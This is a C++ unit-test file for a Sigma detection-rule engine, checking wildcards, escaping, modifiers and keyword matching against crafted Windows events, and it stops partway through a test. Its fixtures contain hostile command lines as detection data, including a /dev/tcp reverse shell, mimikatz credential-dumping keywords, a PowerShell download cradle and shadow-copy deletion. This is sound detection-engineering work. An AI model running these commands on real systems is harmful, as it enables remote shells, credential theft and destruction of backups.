// Tests for the Sigma rule language as the specification defines it (v2 rules,
// modifiers appendix, filters): value escaping and wildcards, every modifier, the
// condition grammar, Sigma filters, loading and logsource routing. Each behaviour is
// checked by matching crafted events, with should-match and should-not-match cases.
#include <gtest/gtest.h>

#include <algorithm>
#include <cctype>
#include <initializer_list>
#include <string>
#include <string_view>
#include <tuple>
#include <utility>
#include <vector>

#include "core/event.h"
#include "detect/sigma.h"
#include "detect/sigma_internal.h"

namespace aegis::detect::sigma {
namespace {

using internal::PatternToken;

// ---- Helpers -----------------------------------------------------------------------

using FieldList = std::vector<std::pair<std::string, std::string>>;

// Schema names for the few fields the Windows parsers map; others keep their name.
FieldKey Key(const std::string& original) {
  static const std::pair<const char*, const char*> kSchema[] = {
      {"Channel", "winlog.channel"},
      {"EventID", "event.code"},
      {"Image", "process.executable"},
      {"CommandLine", "process.command_line"},
  };
  for (const auto& [orig, schema] : kSchema) {
    if (original == orig) return KeyFor(schema, orig);
  }
  return KeyFor(original, original);
}

Event MakeEvent(EventFormat format, const FieldList& fields, std::string source = "") {
  Event ev;
  ev.format = format;
  ev.source = std::move(source);
  for (const auto& [name, value] : fields) ev.Add(Key(name), ValueType::kString, value);
  return ev;
}

// A Sysmon process creation event (EventID 1) with extra fields.
Event Proc(const FieldList& fields) {
  FieldList all{{"Channel", "Microsoft-Windows-Sysmon/Operational"}, {"EventID", "1"}};
  all.insert(all.end(), fields.begin(), fields.end());
  return MakeEvent(EventFormat::kWindowsFlat, all);
}

// A Sysmon network connection event (EventID 3).
Event Net(const FieldList& fields) {
  FieldList all{{"Channel", "Microsoft-Windows-Sysmon/Operational"}, {"EventID", "3"}};
  all.insert(all.end(), fields.begin(), fields.end());
  return MakeEvent(EventFormat::kWindowsFlat, all);
}

// A Security log event with the given EventID.
Event Security(const std::string& event_id, const FieldList& fields) {
  FieldList all{{"Channel", "Security"}, {"EventID", event_id}};
  all.insert(all.end(), fields.begin(), fields.end());
  return MakeEvent(EventFormat::kWindowsFlat, all);
}

constexpr std::string_view kProcHeader = R"(title: Test rule
id: 5f0c8e2a-3d1b-4c6e-9a7f-0b1c2d3e4f50
status: test
level: high
logsource:
  product: windows
  category: process_creation
)";

// A process_creation rule with the given `detection:` body (indented by two spaces).
std::string ProcRule(std::string_view detection) {
  return std::string(kProcHeader) + "detection:\n" + std::string(detection);
}

std::string NetRule(std::string_view detection) {
  return R"(title: Net rule
logsource:
  product: windows
  category: network_connection
detection:
)" + std::string(detection);
}

std::string Describe(const std::vector<LoadIssue>& issues) {
  std::string out;
  for (const auto& i : issues) {
    out += i.path + ":" + std::to_string(i.line) + " [" + i.rule + "] " + i.reason + "\n";
  }
  return out;
}

// Loads YAML text; the rules under test are expected to load without issues unless
// `expect_issues` is set.
struct Loaded {
  explicit Loaded(const std::string& yaml, LoadOptions options = {}, bool expect_issues = false,
                  std::string_view origin = "test.yml") {
    auto r = LoadRulesFromText(yaml, origin, options);
    if (!r) {
      ADD_FAILURE() << "load failed: " << r.error().ToString();
      return;
    }
    result = std::move(*r);
    if (!expect_issues) {
      EXPECT_TRUE(result.issues.empty()) << Describe(result.issues) << "in:\n" << yaml;
    }
  }

  std::vector<RuleMatch> Matches(const Event& ev) const {
    std::vector<RuleMatch> out;
    if (!result.rules) return out;
    Matcher matcher(result.rules);  // fresh per event: no state shared between checks
    matcher.Match(ev, out);
    return out;
  }
  bool Fires(const Event& ev) const { return !Matches(ev).empty(); }
  // Titles of the rules that match, in rule order.
  std::vector<std::string> Titles(const Event& ev) const {
    std::vector<std::string> titles;
    for (const auto& m : Matches(ev)) titles.push_back(RuleAt(*result.rules, m.rule).title);
    return titles;
  }

  LoadResult result;
};

// Independent reference encoders for the encoding modifiers.
std::string B64(std::string_view bytes) {
  static constexpr char kTable[] =
      "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
  std::string out;
  unsigned buffer = 0;
  int bits = 0;
  for (unsigned char c : bytes) {
    buffer = (buffer << 8) | c;
    bits += 8;
    while (bits >= 6) {
      bits -= 6;
      out += kTable[(buffer >> bits) & 0x3F];
    }
  }
  if (bits > 0) out += kTable[(buffer << (6 - bits)) & 0x3F];
  while (out.size() % 4 != 0) out += '=';
  return out;
}

std::string Utf16Le(std::string_view ascii) {
  std::string out;
  for (char c : ascii) {
    out += c;
    out += '\0';
  }
  return out;
}

std::string Utf16Be(std::string_view ascii) {
  std::string out;
  for (char c : ascii) {
    out += '\0';
    out += c;
  }
  return out;
}

const std::string kEnDash = "\xE2\x80\x93";
const std::string kEmDash = "\xE2\x80\x94";
const std::string kHorizontalBar = "\xE2\x80\x95";

TEST(SigmaRuleHelpers, ReferenceBase64) {
  EXPECT_EQ(B64("cmd"), "Y21k");
  EXPECT_EQ(B64(" ping"), "IHBpbmc=");
  EXPECT_EQ(B64("ab"), "YWI=");
  EXPECT_EQ(B64(""), "");
}

// ---- Values ------------------------------------------------------------------------

TEST(SigmaRuleValues, MatchIsCaseInsensitiveByDefault) {
  Loaded r(ProcRule(R"(
  selection:
    Image: 'C:\Windows\System32\CMD.EXE'
  condition: selection
)"));
  EXPECT_TRUE(r.Fires(Proc({{"Image", "c:\\windows\\system32\\cmd.exe"}})));
  EXPECT_TRUE(r.Fires(Proc({{"Image", "C:\\WINDOWS\\SYSTEM32\\CMD.EXE"}})));
  // Without wildcards the whole value must match.
  EXPECT_FALSE(r.Fires(Proc({{"Image", "C:\\Windows\\System32\\cmd.exe.bak"}})));
  EXPECT_FALSE(r.Fires(Proc({{"Image", "D:\\C:\\Windows\\System32\\cmd.exe"}})));
}

TEST(SigmaRuleValues, StarMatchesAnyRunIncludingNone) {
  Loaded r(ProcRule(R"(
  selection:
    CommandLine: 'net*user*/add'
  condition: selection
)"));
  EXPECT_TRUE(r.Fires(Proc({{"CommandLine", "net user bob pw /add"}})));
  EXPECT_TRUE(r.Fires(Proc({{"CommandLine", "netuser/add"}})));  // both stars empty
  EXPECT_FALSE(r.Fires(Proc({{"CommandLine", "net user bob pw /add /y"}})));
  EXPECT_FALSE(r.Fires(Proc({{"CommandLine", "xnet user /add"}})));
}

TEST(SigmaRuleValues, QuestionMarkMatchesExactlyOneCharacterIncludingMultiByte) {
  Loaded r(ProcRule(R"(
  selection:
    User: 'j?rg'
  condition: selection
)"));
  EXPECT_TRUE(r.Fires(Proc({{"User", "jorg"}})));
  EXPECT_TRUE(r.Fires(Proc({{"User", "j\xC3\xB6rg"}})));          // ö: two bytes, one character
  EXPECT_TRUE(r.Fires(Proc({{"User", "j\xE2\x82\xACrg"}})));      // €: three bytes
  EXPECT_TRUE(r.Fires(Proc({{"User", "j\xF0\x9F\x98\x80rg"}})));  // emoji: four bytes
  EXPECT_FALSE(r.Fires(Proc({{"User", "jrg"}})));
  EXPECT_FALSE(r.Fires(Proc({{"User", "joorg"}})));
  EXPECT_FALSE(r.Fires(Proc({{"User", "j\xC3\xB6\xC3\xB6rg"}})));
}

TEST(SigmaRuleValues, EscapedWildcardsAreLiteral) {
  Loaded r(ProcRule(R"(
  selection:
    CommandLine:
      - 'what\?'
      - 'a\*b'
  condition: selection
)"));
  EXPECT_TRUE(r.Fires(Proc({{"CommandLine", "what?"}})));
  EXPECT_TRUE(r.Fires(Proc({{"CommandLine", "a*b"}})));
  EXPECT_FALSE(r.Fires(Proc({{"CommandLine", "whatX"}})));
  EXPECT_FALSE(r.Fires(Proc({{"CommandLine", "axyzb"}})));
  EXPECT_FALSE(r.Fires(Proc({{"CommandLine", "ab"}})));
}

TEST(SigmaRuleValues, DoubleBackslashBeforeStarIsBackslashThenWildcard) {
  Loaded r(ProcRule(R"(
  selection:
    Image: 'C:\Temp\\*'
  condition: selection
)"));
  EXPECT_TRUE(r.Fires(Proc({{"Image", "C:\\Temp\\evil.exe"}})));
  EXPECT_TRUE(r.Fires(Proc({{"Image", "C:\\Temp\\"}})));
  EXPECT_FALSE(r.Fires(Proc({{"Image", "C:\\Tempevil.exe"}})));
  EXPECT_TRUE(r.Fires(Proc({{"Image", "C:\\Temp\\sub\\x.dll"}})));  // * spans folders
}

TEST(SigmaRuleValues, TripleBackslashStarIsBackslashThenLiteralStar) {
  Loaded r(ProcRule(R"(
  selection:
    CommandLine: 'dir C:\\\*'
  condition: selection
)"));
  EXPECT_TRUE(r.Fires(Proc({{"CommandLine", "dir C:\\*"}})));
  EXPECT_FALSE(r.Fires(Proc({{"CommandLine", "dir C:\\Windows"}})));
}

TEST(SigmaRuleValues, DoubleBackslashIsOneBackslashAndFourAreTwo) {
  Loaded r(ProcRule(R"(
  one:
    Image: 'C:\\Windows\\cmd.exe'
  two:
    ShareName: '\\\\server\\share'
  condition: one or two
)"));
  EXPECT_TRUE(r.Fires(Proc({{"Image", "C:\\Windows\\cmd.exe"}})));
  EXPECT_FALSE(r.Fires(Proc({{"Image", "C:\\\\Windows\\\\cmd.exe"}})));
  EXPECT_TRUE(r.Fires(Proc({{"ShareName", "\\\\server\\share"}})));
  EXPECT_FALSE(r.Fires(Proc({{"ShareName", "\\server\\share"}})));
}

TEST(SigmaRuleValues, BackslashBeforeOrdinaryCharacterIsKept) {
  Loaded r(ProcRule(R"(
  selection:
    Image: 'C:\Windows\System32\whoami.exe'
  condition: selection
)"));
  EXPECT_TRUE(r.Fires(Proc({{"Image", "C:\\Windows\\System32\\whoami.exe"}})));
  EXPECT_FALSE(r.Fires(Proc({{"Image", "C:WindowsSystem32whoami.exe"}})));
}

TEST(SigmaRuleValues, ParseSigmaStringFollowsTheEscapingTable) {
  using internal::ParseSigmaString;
  auto literal = [](std::string_view s) {
    std::string text;
    EXPECT_TRUE(internal::IsPlain(ParseSigmaString(s), &text)) << s;
    return text;
  };
  EXPECT_EQ(literal("C:\\Windows"), "C:\\Windows");    // \W stays two characters
  EXPECT_EQ(literal("C:\\\\Windows"), "C:\\Windows");  // \\ is one backslash
  EXPECT_EQ(literal("\\*"), "*");
  EXPECT_EQ(literal("\\?"), "?");
  EXPECT_EQ(literal("\\\\\\*"), "\\*");    // \\\* = backslash, literal star
  EXPECT_EQ(literal("\\\\\\\\"), "\\\\");  // \\\\ = two backslashes
  EXPECT_EQ(literal("\\\\\\"), "\\\\");    // \\\ = two backslashes too
  EXPECT_EQ(literal("foo\\"), "foo\\");    // trailing backslash kept

  const auto s = ParseSigmaString("a\\\\*");  // a\\* = "a\" then a wildcard
  ASSERT_EQ(s.size(), 2u);
  EXPECT_EQ(s[0].kind, PatternToken::kLiteral);
  EXPECT_EQ(s[0].text, "a\\");
  EXPECT_EQ(s[1].kind, PatternToken::kStar);

  const auto q = ParseSigmaString("x?y*");
  ASSERT_EQ(q.size(), 4u);
  EXPECT_EQ(q[1].kind, PatternToken::kOne);
  EXPECT_EQ(q[3].kind, PatternToken::kStar);
}

TEST(SigmaRuleValues, CompiledPatternShapesMatchDirectly) {
  using internal::CompilePattern;
  using internal::ParseSigmaString;
  using internal::Pattern;
  auto matches = [](const Pattern& p, std::string_view value) {
    std::string lower(value);
    for (char& c : lower) c = static_cast<char>(std::tolower(static_cast<unsigned char>(c)));
    return internal::PatternMatches(p, value, lower);
  };
  const Pattern prefix = CompilePattern(ParseSigmaString("Foo*"), false);
  EXPECT_EQ(prefix.shape, Pattern::kPrefix);
  EXPECT_TRUE(matches(prefix, "FOObar"));
  EXPECT_FALSE(matches(prefix, "xfoo"));

  const Pattern cased = CompilePattern(ParseSigmaString("*Foo*"), true);
  EXPECT_EQ(cased.shape, Pattern::kContains);
  EXPECT_TRUE(matches(cased, "xFoox"));
  EXPECT_FALSE(matches(cased, "xfoox"));

  const Pattern glob = CompilePattern(ParseSigmaString("a?c*e"), false);
  EXPECT_EQ(glob.shape, Pattern::kGlob);
  EXPECT_TRUE(matches(glob, "abcde"));
  EXPECT_TRUE(matches(glob,
                      "a\xC3\xA9"
                      "ce"));  // é is one character
  EXPECT_FALSE(matches(glob, "acde"));

  const Pattern anything = CompilePattern(ParseSigmaString("**"), false);
  EXPECT_EQ(anything.shape, Pattern::kAnything);
  EXPECT_TRUE(matches(anything, ""));
}

TEST(SigmaRuleValues, IntegerValueMatchesTextualField) {
  Loaded r(ProcRule(R"(
  selection:
    ProcessId: 4688
    IntegrityLevel: 0x3000
  condition: selection
)"));
  EXPECT_TRUE(r.Fires(Proc({{"ProcessId", "4688"}, {"IntegrityLevel", "0x3000"}})));
  EXPECT_FALSE(r.Fires(Proc({{"ProcessId", "46880"}, {"IntegrityLevel", "0x3000"}})));
  EXPECT_FALSE(r.Fires(Proc({{"ProcessId", "4688"}, {"IntegrityLevel", "0x2000"}})));
}

TEST(SigmaRuleValues, NullValueMatchesAbsentField) {
  Loaded r(ProcRule(R"(
  selection:
    Image|endswith: '\cmd.exe'
    ParentImage: null
  condition: selection
)"));
  EXPECT_TRUE(r.Fires(Proc({{"Image", "C:\\Windows\\cmd.exe"}})));
  EXPECT_FALSE(
      r.Fires(Proc({{"Image", "C:\\Windows\\cmd.exe"}, {"ParentImage", "C:\\explorer.exe"}})));
}

TEST(SigmaRuleValues, EmptyListValueMeansNull) {
  Loaded r(ProcRule(R"(
  selection:
    Image|endswith: '\cmd.exe'
    ParentImage: []
  condition: selection
)"));
  EXPECT_TRUE(r.Fires(Proc({{"Image", "C:\\Windows\\cmd.exe"}})));
  EXPECT_FALSE(
      r.Fires(Proc({{"Image", "C:\\Windows\\cmd.exe"}, {"ParentImage", "C:\\explorer.exe"}})));
}

TEST(SigmaRuleValues, NegatedNullSelectionMeansFieldPresent) {
  Loaded r(ProcRule(R"(
  selection:
    Image|endswith: '\cmd.exe'
  filter:
    ParentImage: null
  condition: selection and not filter
)"));
  EXPECT_TRUE(
      r.Fires(Proc({{"Image", "C:\\Windows\\cmd.exe"}, {"ParentImage", "C:\\explorer.exe"}})));
  EXPECT_FALSE(r.Fires(Proc({{"Image", "C:\\Windows\\cmd.exe"}})));
}

TEST(SigmaRuleValues, ListValuesAreOred) {
  Loaded r(ProcRule(R"(
  selection:
    Image|endswith:
      - '\cmd.exe'
      - '\powershell.exe'
  condition: selection
)"));
  EXPECT_TRUE(r.Fires(Proc({{"Image", "C:\\Windows\\cmd.exe"}})));
  EXPECT_TRUE(r.Fires(Proc({{"Image", "C:\\Windows\\powershell.exe"}})));
  EXPECT_FALSE(r.Fires(Proc({{"Image", "C:\\Windows\\notepad.exe"}})));
}

TEST(SigmaRuleValues, MapEntriesAreAnded) {
  Loaded r(ProcRule(R"(
  selection:
    Image|endswith: '\cmd.exe'
    CommandLine|contains: 'whoami'
  condition: selection
)"));
  EXPECT_TRUE(r.Fires(Proc({{"Image", "C:\\cmd.exe"}, {"CommandLine", "cmd /c whoami"}})));
  EXPECT_FALSE(r.Fires(Proc({{"Image", "C:\\cmd.exe"}, {"CommandLine", "cmd /c dir"}})));
  EXPECT_FALSE(r.Fires(Proc({{"Image", "C:\\bash.exe"}, {"CommandLine", "whoami"}})));
  EXPECT_FALSE(r.Fires(Proc({{"Image", "C:\\cmd.exe"}})));
}

TEST(SigmaRuleValues, ListOfMapsIsOred) {
  Loaded r(ProcRule(R"(
  selection:
    - Image|endswith: '\rundll32.exe'
      CommandLine|contains: 'javascript:'
    - OriginalFileName: 'RUNDLL32.EXE'
      CommandLine|contains: 'mshtml'
  condition: selection
)"));
  EXPECT_TRUE(
      r.Fires(Proc({{"Image", "C:\\rundll32.exe"}, {"CommandLine", "rundll32 javascript:x"}})));
  EXPECT_TRUE(r.Fires(Proc(
      {{"OriginalFileName", "RUNDLL32.EXE"}, {"CommandLine", "x mshtml,RunHTMLApplication"}})));
  // Each map is still an AND: mixing halves of the two maps does not match.
  EXPECT_FALSE(r.Fires(Proc({{"Image", "C:\\rundll32.exe"}, {"CommandLine", "mshtml"}})));
  EXPECT_FALSE(
      r.Fires(Proc({{"OriginalFileName", "RUNDLL32.EXE"}, {"CommandLine", "javascript:"}})));
}

TEST(SigmaRuleValues, KeywordListSearchesEveryFieldForSubstrings) {
  Loaded r(ProcRule(R"(
  keywords:
    - 'sekurlsa::logonpasswords'
    - 'MIMIKATZ'
  condition: keywords
)"));
  EXPECT_TRUE(
      r.Fires(Proc({{"CommandLine", "m.exe privilege::debug sekurlsa::logonpasswords exit"}})));
  EXPECT_TRUE(r.Fires(Proc({{"Description", "mimikatz for Windows"}})));  // any field, any case
  EXPECT_TRUE(r.Fires(Proc({{"SomeOtherField", "c:\\tools\\Mimikatz.exe"}})));
  EXPECT_FALSE(r.Fires(Proc({{"CommandLine", "sekurlsa logonpasswords"}})));
}

TEST(SigmaRuleValues, KeywordAllModifierRequiresEveryKeyword) {
  // Each keyword is the whole value of some field here, so only the AND is tested.
  Loaded r(ProcRule(R"(
  keywords:
    '|all':
      - 'alpha'
      - 'beta'
  condition: keywords
)"));
  EXPECT_TRUE(r.Fires(Proc({{"A", "alpha"}, {"B", "beta"}})));
  EXPECT_FALSE(r.Fires(Proc({{"A", "alpha"}})));
  EXPECT_FALSE(r.Fires(Proc({{"B", "beta"}})));
}

TEST(SigmaRuleValues, KeywordAllModifierFindsKeywordsInsideLongerText) {
  // Keywords are full-text searches, with or without `|all` (SigmaHQ's
  // lnx_susp_jexboss.yml, cisco_bgp_md5_auth_failed.yml use '|all' this way).
  Loaded r(ProcRule(R"(
  keywords:
    '|all':
      - 'bash -c /bin/bash'
      - '&/dev/tcp/'
  condition: keywords
)"));
  EXPECT_TRUE(r.Fires(Proc({{"CommandLine", "sh -c bash -c /bin/bash >&/dev/tcp/10.0.0.1/4444"}})));
  EXPECT_FALSE(r.Fires(Proc({{"CommandLine", "sh -c bash -c /bin/bash -i"}})));
}

// ---- Modifiers ---------------------------------------------------------------------

TEST(SigmaRuleModifiers, Contains) {
  Loaded r(ProcRule(R"(
  selection:
    CommandLine|contains: 'DownloadString'
  condition: selection
)"));
  EXPECT_TRUE(
      r.Fires(Proc({{"CommandLine", "iex (New-Object Net.WebClient).downloadstring('x')"}})));
  EXPECT_TRUE(r.Fires(Proc({{"CommandLine", "DownloadString"}})));
  EXPECT_FALSE(r.Fires(Proc({{"CommandLine", "Download String"}})));
}

TEST(SigmaRuleModifiers, StartsWith) {
  Loaded r(ProcRule(R"(
  selection:
    Image|startswith: 'C:\Users\Public\'
  condition: selection
)"));
  EXPECT_TRUE(r.Fires(Proc({{"Image", "C:\\Users\\Public\\evil.exe"}})));
  EXPECT_FALSE(r.Fires(Proc({{"Image", "D:\\C:\\Users\\Public\\evil.exe"}})));
}

TEST(SigmaRuleModifiers, EndsWith) {
  Loaded r(ProcRule(R"(
  selection:
    Image|endswith: '\certutil.exe'
  condition: selection
)"));
  EXPECT_TRUE(r.Fires(Proc({{"Image", "C:\\Windows\\System32\\CertUtil.exe"}})));
  EXPECT_FALSE(r.Fires(Proc({{"Image", "C:\\Windows\\System32\\certutil.exe.old"}})));
}

TEST(SigmaRuleModifiers, AllWithContainsRequiresEveryValue) {
  Loaded r(ProcRule(R"(
  selection:
    CommandLine|contains|all:
      - ' -enc '
      - ' -w hidden'
  condition: selection
)"));
  EXPECT_TRUE(r.Fires(Proc({{"CommandLine", "powershell -w hidden -nop -enc SQBFAFgA"}})));
  EXPECT_FALSE(r.Fires(Proc({{"CommandLine", "powershell -nop -enc SQBFAFgA"}})));
  EXPECT_FALSE(r.Fires(Proc({{"CommandLine", "powershell -w hidden"}})));
}

TEST(SigmaRuleModifiers, AllWithoutOtherModifiersRequiresEveryExactValue) {
  // A field repeated in the event (e.g. several Hashes entries) can satisfy each
  // value with a different instance.
  Loaded r(ProcRule(R"(
  selection:
    Tag|all:
      - 'red'
      - 'blue'
  condition: selection
)"));
  EXPECT_TRUE(r.Fires(Proc({{"Tag", "red"}, {"Tag", "blue"}})));
  EXPECT_FALSE(r.Fires(Proc({{"Tag", "red"}})));
}

TEST(SigmaRuleModifiers, ExistsTrueRequiresTheField) {
  Loaded r(ProcRule(R"(
  selection:
    Hashes|exists: true
  condition: selection
)"));
  EXPECT_TRUE(r.Fires(Proc({{"Hashes", "SHA256=AB"}})));
  EXPECT_TRUE(r.Fires(Proc({{"Hashes", ""}})));  // the value is ignored, even empty
  EXPECT_FALSE(r.Fires(Proc({{"Image", "C:\\a.exe"}})));
}

TEST(SigmaRuleModifiers, ExistsFalseRequiresTheFieldAbsent) {
  Loaded r(ProcRule(R"(
  selection:
    Image|endswith: '.exe'
    Hashes|exists: false
  condition: selection
)"));
  EXPECT_TRUE(r.Fires(Proc({{"Image", "C:\\a.exe"}})));
  EXPECT_FALSE(r.Fires(Proc({{"Image", "C:\\a.exe"}, {"Hashes", "SHA256=AB"}})));
}

TEST(SigmaRuleModifiers, CasedMatchesCaseSensitively) {
  Loaded r(ProcRule(R"(
  selection:
    CommandLine|cased|contains: 'IEX'
  condition: selection
)"));
  EXPECT_TRUE(r.Fires(Proc({{"CommandLine", "powershell IEX(x)"}})));
  EXPECT_FALSE(r.Fires(Proc({{"CommandLine", "powershell iex(x)"}})));
  EXPECT_FALSE(r.Fires(Proc({{"CommandLine", "powershell Iex(x)"}})));
}

TEST(SigmaRuleModifiers, NeqMatchesFieldsDifferentFromEveryValue) {
  Loaded r(ProcRule(R"(
  selection:
    Image|endswith: '\cmd.exe'
    User|neq:
      - 'NT AUTHORITY\SYSTEM'
      - 'NT AUTHORITY\LOCAL SERVICE'
  condition: selection
)"));
  EXPECT_TRUE(r.Fires(Proc({{"Image", "C:\\cmd.exe"}, {"User", "CORP\\alice"}})));
  EXPECT_FALSE(r.Fires(Proc({{"Image", "C:\\cmd.exe"}, {"User", "NT AUTHORITY\\SYSTEM"}})));
  EXPECT_FALSE(r.Fires(Proc({{"Image", "C:\\cmd.exe"}, {"User", "nt authority\\local service"}})));
}

TEST(SigmaRuleModifiers, WindashExpandsToAllFiveDashCharacters) {
  Loaded r(ProcRule(R"(
  selection:
    CommandLine|windash|contains: '-encodedcommand'
  condition: selection
)"));
  for (const std::string& dash :
       {std::string("-"), std::string("/"), kEnDash, kEmDash, kHorizontalBar}) {
    EXPECT_TRUE(r.Fires(Proc({{"CommandLine", "powershell " + dash + "EncodedCommand SQBFAFgA"}})))
        << "dash bytes: " << dash;
  }
  EXPECT_FALSE(r.Fires(Proc({{"CommandLine", "powershell +EncodedCommand SQBFAFgA"}})));
  EXPECT_FALSE(r.Fires(Proc({{"CommandLine", "powershell EncodedCommand SQBFAFgA"}})));
}

TEST(SigmaRuleModifiers, WindashOnlyExpandsDashesThatStartAWord) {
  // In '-param-name' only the first dash is a flag dash (pySigma: \B[-/]\b).
  Loaded r(ProcRule(R"(
  selection:
    CommandLine|windash: 'tool -param-name'
  condition: selection
)"));
  EXPECT_TRUE(r.Fires(Proc({{"CommandLine", "tool -param-name"}})));
  EXPECT_TRUE(r.Fires(Proc({{"CommandLine", "tool /param-name"}})));
  EXPECT_TRUE(r.Fires(Proc({{"CommandLine", "tool " + kEmDash + "param-name"}})));
  EXPECT_FALSE(r.Fires(Proc({{"CommandLine", "tool -param/name"}})));
  EXPECT_FALSE(r.Fires(Proc({{"CommandLine", "tool /param" + kEnDash + "name"}})));
}

TEST(SigmaRuleModifiers, WindashExpandsTwoFlagsIndependently) {
  Loaded r(ProcRule(R"(
  selection:
    CommandLine|windash: 'vssadmin delete shadows -all -quiet'
  condition: selection
)"));
  const std::vector<std::string> dashes{"-", "/", kEnDash, kEmDash, kHorizontalBar};
  int matched = 0;
  for (const auto& a : dashes) {
    for (const auto& b : dashes) {
      const std::string cmd = "vssadmin delete shadows " + a + "all " + b + "quiet";
      const bool fires = r.Fires(Proc({{"CommandLine", cmd}}));
      EXPECT_TRUE(fires) << cmd;
      matched += fires;
    }
  }
  EXPECT_EQ(matched, 25);
  EXPECT_FALSE(r.Fires(Proc({{"CommandLine", "vssadmin delete shadows -all +quiet"}})));
}

TEST(SigmaRuleModifiers, RegexIsCaseSensitiveByDefault) {
  Loaded r(ProcRule(R"(
  selection:
    CommandLine|re: 'Invoke-[A-Z][a-z]+'
  condition: selection
)"));
  EXPECT_TRUE(r.Fires(Proc({{"CommandLine", "powershell Invoke-Mimikatz"}})));  // unanchored
  EXPECT_FALSE(r.Fires(Proc({{"CommandLine", "powershell invoke-mimikatz"}})));
  EXPECT_FALSE(r.Fires(Proc({{"CommandLine", "powershell Invoke-123"}})));
}

TEST(SigmaRuleModifiers, RegexIgnoreCaseSubModifier) {
  Loaded r(ProcRule(R"(
  selection:
    CommandLine|re|i: 'invoke-[a-z]+'
  condition: selection
)"));
  EXPECT_TRUE(r.Fires(Proc({{"CommandLine", "powershell INVOKE-MIMIKATZ"}})));
  EXPECT_FALSE(r.Fires(Proc({{"CommandLine", "powershell invoke_mimikatz"}})));
}

TEST(SigmaRuleModifiers, RegexMultilineSubModifier) {
  Loaded multi(ProcRule(R"(
  selection:
    CommandLine|re|m: '^second$'
  condition: selection
)"));
  Loaded single(ProcRule(R"(
  selection:
    CommandLine|re: '^second$'
  condition: selection
)"));
  const Event ev = Proc({{"CommandLine", "first\nsecond\nthird"}});
  EXPECT_TRUE(multi.Fires(ev));
  EXPECT_FALSE(single.Fires(ev));
  EXPECT_TRUE(single.Fires(Proc({{"CommandLine", "second"}})));
}

TEST(SigmaRuleModifiers, RegexDotallSubModifier) {
  Loaded dotall(ProcRule(R"(
  selection:
    CommandLine|re|s: 'begin.+end'
  condition: selection
)"));
  Loaded plain(ProcRule(R"(
  selection:
    CommandLine|re: 'begin.+end'
  condition: selection
)"));
  const Event ev = Proc({{"CommandLine", "begin\nend"}});
  EXPECT_TRUE(dotall.Fires(ev));
  EXPECT_FALSE(plain.Fires(ev));
  EXPECT_TRUE(plain.Fires(Proc({{"CommandLine", "begin middle end"}})));
}

TEST(SigmaRuleModifiers, RegexWithHexEscapeMatches) {
  // \x2e is '.'; the literal the prefilter looks for must come from the regex's
  // meaning, not from the characters of the escape.
  Loaded r(ProcRule(R"(
  selection:
    CommandLine|re: 'cmd\x2eexe'
  condition: selection
)"));
  EXPECT_TRUE(r.Fires(Proc({{"CommandLine", "c:\\windows\\cmd.exe /c"}})));
  EXPECT_FALSE(r.Fires(Proc({{"CommandLine", "c:\\windows\\cmdxexe /c"}})));
}

TEST(SigmaRuleModifiers, RegexRequiredLiteralIsContainedInEveryMatch) {
  using internal::RegexRequiredLiteral;
  EXPECT_EQ(RegexRequiredLiteral("cmd\\.exe", false), "cmd.exe");
  EXPECT_EQ(RegexRequiredLiteral("Invoke-Mimi[a-z]+", false), "invoke-mimi");
  EXPECT_EQ(RegexRequiredLiteral("a|b", false), "");
  EXPECT_EQ(RegexRequiredLiteral("(foo|bar)baz", false), "baz");
  EXPECT_EQ(RegexRequiredLiteral("abcd?", false), "abc");
  // Escapes that stand for other characters must not leak their letters/digits.
  for (const auto& [regex, match] :
       std::vector<std::pair<std::string, std::string>>{{"cmd\\x2eexe", "cmd.exe"},
                                                        {"cmd\\x{2e}exe", "cmd.exe"},
                                                        {"net\\cIuser", "net\tuser"},
                                                        {"a\\101bc", "aAbc"}}) {
    const std::string literal = RegexRequiredLiteral(regex, false);
    EXPECT_NE(match.find(literal), std::string::npos)
        << "regex " << regex << " requires '" << literal << "', which '" << match
        << "' does not contain";
  }
}

TEST(SigmaRuleModifiers, Base64MatchesTheEncodedValue) {
  Loaded r(ProcRule(R"(
  exact:
    CommandLine|base64: 'whoami'
  inside:
    ScriptBlock|base64|contains: 'http://'
  condition: exact or inside
)"));
  EXPECT_TRUE(r.Fires(Proc({{"CommandLine", B64("whoami")}})));
  EXPECT_TRUE(r.Fires(Proc({{"ScriptBlock", "FromBase64String('" + B64("http://") + "')"}})));
  EXPECT_FALSE(r.Fires(Proc({{"CommandLine", "whoami"}})));
  EXPECT_FALSE(r.Fires(Proc({{"ScriptBlock", B64("https://")}})));
}

TEST(SigmaRuleModifiers, Base64OffsetFindsTheValueAtEveryAlignment) {
  Loaded r(ProcRule(R"(
  selection:
    CommandLine|base64offset|contains: 'Invoke-Mimikatz'
  condition: selection
)"));
  for (const std::string prefix : {"iex ", "iex  ", "iex   "}) {  // offsets 1, 2, 0 mod 3
    for (const std::string suffix : {"", ";", ";x", " -DumpCreds"}) {
      const std::string text = prefix + "Invoke-Mimikatz" + suffix;
      EXPECT_TRUE(r.Fires(Proc({{"CommandLine", "powershell -enc " + B64(text)}})))
          << "offset " << prefix.size() % 3 << ": " << text;
    }
  }
  // The bytes at either end may share base64 characters with their neighbours, so
  // the negative case differs in the middle.
  EXPECT_FALSE(r.Fires(Proc({{"CommandLine", "powershell -enc " + B64("iex Invoke-Mimxkatz")}})));
  EXPECT_FALSE(r.Fires(Proc({{"CommandLine", "powershell Invoke-Mimikatz"}})));
}

TEST(SigmaRuleModifiers, Base64OffsetExpansionsMatchTheSpecExamples) {
  // cmd → Y21k, NtZ, jbW (the spec's example), each found within a longer blob.
  Loaded r(ProcRule(R"(
  selection:
    CommandLine|base64offset|contains: 'cmd'
  condition: selection
)"));
  EXPECT_TRUE(r.Fires(Proc({{"CommandLine", "xxY21kxx"}})));
  EXPECT_TRUE(r.Fires(Proc({{"CommandLine", "xxNtZxx"}})));
  EXPECT_TRUE(r.Fires(Proc({{"CommandLine", "xxjbWxx"}})));
  EXPECT_FALSE(r.Fires(Proc({{"CommandLine", "Y21"}})));
}

TEST(SigmaRuleModifiers, WideAndUtf16leEncodeBeforeBase64Offset) {
  Loaded r(ProcRule(R"(
  wide:
    CommandLine|wide|base64offset|contains: 'Net.WebClient'
  utf16le:
    ScriptBlock|utf16le|base64offset|contains: 'Net.WebClient'
  condition: wide or utf16le
)"));
  for (const std::string prefix : {"", "(", "(n"}) {  // byte offsets 0, 2, 4 → 0, 2, 1
    const std::string text = prefix + "New-Object Net.WebClient).DownloadString";
    const std::string blob = B64(Utf16Le(text));
